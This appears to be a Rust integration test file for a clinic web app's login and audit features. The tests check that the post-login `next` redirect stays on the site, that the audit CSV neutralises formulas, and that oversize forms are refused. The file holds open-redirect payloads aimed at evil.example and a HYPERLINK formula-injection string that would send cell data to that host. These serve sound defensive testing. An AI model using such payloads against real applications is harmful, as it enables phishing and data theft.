//! Issue 12 (point 7) through the real server and the pages: after the one-time code, `next`
//! only ever leads to a path on this site (tabs, control characters, `//`, another scheme all
//! fall back to the default page); the audit report's CSV never lets a login name run as a
//! formula; the login page carries the security headers; an oversize login form is refused.

use crate::common::*;
use musubi_domain::Profession;

/// Logs a new clinician in (password, then the code) with `next`; returns the redirect target.
fn landing_after_code(net: &Net, n: usize, next: &str) -> String {
    let login = format!("dr-next-{n}");
    let secret = net.user(&login, "結城 一郎", Profession::Doctor, &[HOSP]);
    let w = Web::new(net);
    let p = w.post("/login", &[("login", &login), ("password", PASSWORD), ("next", next)]);
    assert_eq!(p.status, 200, "{}", p.text());
    let code = musubi_service::people::totp_code_now(&secret).unwrap();
    let p = w.post("/login/code", &[("code", &code), ("next", next)]);
    assert_eq!(p.status, 303, "{next:?}: {}", p.text());
    p.location.unwrap_or_default()
}

#[test]
fn next_after_the_one_time_code_stays_on_this_site() {
    let net = Net::start();
    net.facility(HOSP, "東京結び病院", "hospital", "1301", &["千代田区"]);
    let off_site = [
        "/\t/evil.example",      // what `next=/%09/evil.example` decodes to
        "/%09/evil.example",     // the same, still encoded
        "//evil.example/x",      // protocol-relative
        "https://evil.example/", // another scheme and host
        "/\\evil.example",       // a backslash browsers read as `/`
        "/\r\n/evil.example",    // control characters
        "/%2F%2Fevil.example",   // `//` once decoded
        "\t//evil.example",      // leading white space
        "/patients/../\u{7f}/x", // DEL
    ];
    for (i, next) in off_site.iter().enumerate() {
        assert_eq!(landing_after_code(&net, i, next), "/patients", "{next:?}");
    }
    // An internal path is kept.
    assert_eq!(landing_after_code(&net, 100, "/patients?q=%E7%B5%90"), "/patients?q=%E7%B5%90");
    // The login page with an attacker's `next` in its link renders it only as a form value.
    let w = Web::new(&net);
    let p = w.get("/login?next=/%09/evil.example");
    assert_eq!(p.status, 200);
    assert!(p.header("content-security-policy").contains("default-src 'none'"));
    assert_eq!(p.header("x-content-type-options"), "nosniff");
    assert!(p.header("cache-control").contains("no-store"));
}

#[test]
fn the_audit_report_csv_keeps_formulas_as_text() {
    let net = Net::start();
    let formula = "=HYPERLINK(\"evil.example/?d=\"&A1,\"詳細\")";
    let w = Web::new(&net);
    let p = w.post("/portal/register-proxy", &[("name", "+81 家族"), ("login", formula), ("password", PASSWORD)]);
    assert_eq!(p.status, 200, "{}", p.text());
    let op = Web::new(&net);
    op.login_operator(&net);
    let csv = op.get("/admin/audit?format=csv");
    assert_eq!(csv.status, 200, "{}", csv.text());
    assert!(csv.header("content-type").starts_with("text/csv"));
    let text = csv.text();
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(text.contains(&quoted), "{text}");
    for line in text.lines().skip(1) {
        for cell in line.split(",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {line}");
        }
    }
}

#[test]
fn an_oversize_login_form_is_refused() {
    let net = Net::start();
    let w = Web::new(&net);
    let big = "x".repeat(200 * 1024);
    for path in ["/login", "/portal/login", "/portal/register", "/portal/register-proxy", "/admin/login"] {
        // The server answers 413 after reading at most the limit and closes the connection; a
        // client still sending the rest may see the close (a reset) before the answer, which
        // is a refusal too. What must never happen is an accepted form.
        let sent = w
            .http
            .post(format!("{}{path}", w.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(form_body(&[("login", &big), ("password", "x")]))
            .send();
        match sent {
            Ok(r) => assert_eq!(r.status().as_u16(), 413, "{path}"),
            Err(e) => assert!(e.is_request() || e.is_body() || e.is_connect(), "{path}: {e:?}"),
        }
    }
}
